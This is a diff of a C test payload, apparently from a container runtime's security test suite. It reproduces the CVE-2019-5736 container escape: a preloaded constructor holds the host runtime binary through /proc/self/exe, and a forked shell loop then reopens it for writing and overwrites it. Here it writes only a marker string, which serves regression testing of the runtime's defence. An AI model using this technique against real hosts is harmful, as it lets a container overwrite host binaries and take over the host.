@@ -1,17 +1,18 @@
 // The CVE-2019-5736 payload of integration/security-attacks.bats, preloaded (LD_PRELOAD) into
 // whatever the kernel runs for a container's `#!/proc/self/exe` script. If that is the host's
 // hippo or shim binary, this constructor runs inside the container with /proc/self/exe naming
-// it: it records the file's identity in /attack.log, then a child keeps an O_PATH fd on it and
-// tries, for a bounded time, to reopen it for writing (waiting out ETXTBSY while the host's
-// copies still run) and to overwrite it. The parent becomes `sleep 3`, so that the container
-// lives on while nothing in it executes the binary any more.
+// it: it records the file's identity in /attack.log and keeps an O_PATH fd on it, then execs a
+// shell that, for a bounded time, reopens the fd for writing through /proc/self/fd (waiting out
+// ETXTBSY while host processes still execute the file) and overwrites the binary. Nothing that
+// maps the binary may stay alive in the container, or the file stays busy: the shell runs in a
+// forked child, and the parent becomes `sleep 6` as the container's pid 1 (create/start) or
+// exits at once (exec, so that the host's `hippo exec` returns and frees the file).
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/stat.h>
-#include <time.h>
 #include <unistd.h>
 
 static void note(const char* text) {
@@ -21,9 +22,17 @@ static void note(const char* text) {
   close(log);
 }
 
+static const char kWriter[] =
+    "n=0; while [ $n -lt 50 ]; do"
+    "  if err=$( (printf hippo-exe-attack >/proc/self/fd/%d) 2>&1 ); then"
+    "    echo 'wrote 16 bytes' >>/attack.log; exit 0; fi;"
+    "  case $err in *busy*) ;; *) echo \"open for writing: $err\" >>/attack.log; exit 0;; esac;"
+    "  sleep 0.1; n=$((n+1));"
+    "done; echo 'open for writing: still busy' >>/attack.log";
+
 __attribute__((constructor)) static void attack(void) {
-  char line[256];
-  int exe = open("/proc/self/exe", O_PATH | O_CLOEXEC);
+  char line[512];
+  int exe = open("/proc/self/exe", O_PATH);  // inherited by the shell: no O_CLOEXEC
   struct stat st;
   if (exe < 0 || fstat(exe, &st) != 0) {
     snprintf(line, sizeof line, "exe: %s\n", strerror(errno));
@@ -33,29 +42,12 @@ __attribute__((constructor)) static void attack(void) {
   snprintf(line, sizeof line, "exe %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
   note(line);
   if (fork() == 0) {
-    char path[64];
-    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
-    for (int i = 0; i < 500; ++i) {  // ~10 s
-      int w = open(path, O_WRONLY | O_CLOEXEC);
-      if (w >= 0) {
-        const char evil[] = "hippo-exe-attack";
-        ssize_t n = write(w, evil, sizeof evil - 1);
-        if (n > 0) snprintf(line, sizeof line, "wrote %zd bytes\n", n);
-        else snprintf(line, sizeof line, "write: %s\n", strerror(errno));
-        note(line);
-        _exit(0);
-      }
-      if (errno != ETXTBSY) {
-        snprintf(line, sizeof line, "open for writing: %s\n", strerror(errno));
-        note(line);
-        _exit(0);
-      }
-      struct timespec pause = {0, 20 * 1000 * 1000};
-      nanosleep(&pause, NULL);
-    }
-    note("open for writing: still busy\n");
-    _exit(0);
+    setsid();
+    snprintf(line, sizeof line, kWriter, exe);
+    execl("/bin/sh", "sh", "-c", line, (char*)NULL);
+    _exit(1);
   }
-  execl("/bin/sleep", "sleep", "3", (char*)NULL);
-  _exit(1);
+  close(exe);
+  if (getpid() == 1) execl("/bin/sleep", "sleep", "6", (char*)NULL);
+  _exit(0);
 }
